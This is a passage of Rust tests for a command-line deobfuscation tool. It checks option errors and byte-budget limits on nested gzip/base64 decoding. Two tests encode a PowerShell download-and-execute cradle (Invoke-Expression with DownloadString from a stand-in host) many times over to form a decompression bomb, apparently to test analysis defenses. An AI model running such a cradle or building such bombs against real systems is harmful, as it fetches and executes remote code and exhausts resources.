    assert_eq!(read::<UnpackOptions>("unpack", &serde_json::Value::Null).unwrap(), opts());
    for (v, want) in [
        (
            json!({"maxDepht": 3}),
            "unpack: unknown option 'maxDepht' (did you mean 'max_depth'?). Options are: max_depth, \
             max_fragments_per_level, max_total_bytes, max_members, utf16, utf16_detect, utf_16, url_safe, min_length, \
             max_display_bytes, trace",
        ),
        (json!({"max_depth": -1}), "unpack: option 'max_depth': expected a whole number ≥ 0, got -1"),
        (json!({"min_length": 2.5}), "unpack: option 'min_length': expected a whole number ≥ 0, got 2.5"),
        (json!({"url_safe": 1}), "unpack: option 'url_safe': invalid type: integer `1`, expected a boolean"),
    ] {
        assert_eq!(read::<UnpackOptions>("unpack", &v).unwrap_err().to_string(), want, "{v}");
    }
}

/// `n` copies of `run`, space-separated, gzipped and base64-encoded: one short run that decodes to `n` repeats.
fn repeats_in_gzip(run: &str, n: usize) -> String {
    let text = vec![run; n].join(" ");
    b64(&gzip_of("r.txt", text.as_bytes()))
}

#[test]
fn repeated_runs_count_against_the_byte_budget() {
    // Issue #14: each copy of a repeated run re-appends its cached decode. Two levels of 400 repeats of gzip-in-gzip
    // is 160,000 copies of the innermost decode (about 13 MB of output) from a command line of a few hundred bytes.
    let inner = b64(b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')");
    let middle = repeats_in_gzip(&inner, 400);
    let outer = repeats_in_gzip(&middle, 400);
    let text = format!("powershell -enc {outer}");
    assert!(text.len() < 2000, "the command line is {} bytes", text.len());
    let budget = 1 << 20;
    let u = unpack(
        &text,
        &UnpackOptions {
            max_total_bytes: budget,
            ..opts()
        },
    )
    .unwrap();
    assert!(u.truncated);
    assert!(
        u.text.len() <= budget + text.len(),
        "{} bytes produced under a {budget}-byte budget",
        u.text.len()
    );
    assert!(
        u.notes.iter().any(|n| n.contains("limit max_total_bytes")),
        "{:?}",
        u.notes
    );
    // What fitted is still decoded: the first copies are there, the rest left encoded.
    assert!(u.text.contains("DownloadString"));
    assert!(u.text.contains(&middle));
}

#[test]
fn nested_repeats_stop_at_the_default_budget() {
    let _heavy = HEAVY.lock().unwrap_or_else(|e| e.into_inner());
    // 1000 × 1000 × 100 copies (about 10 GB) if repeats were free; the 64 MiB budget stops it.
    let inner = b64(b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')");
    let l2 = repeats_in_gzip(&inner, 1000);
    let l3 = repeats_in_gzip(&l2, 1000);
    let l4 = repeats_in_gzip(&l3, 100);
    let text = format!("powershell -enc {l4}");
    assert!(text.len() < 5000, "the command line is {} bytes", text.len());
    let t = Instant::now();
    let u = unpack(&text, &opts()).unwrap();
    assert!(u.truncated);
    assert!(u.text.len() <= (64 << 20) + text.len(), "{} bytes", u.text.len());
    assert!(t.elapsed() < Duration::from_secs(60), "took {:?}", t.elapsed());
}
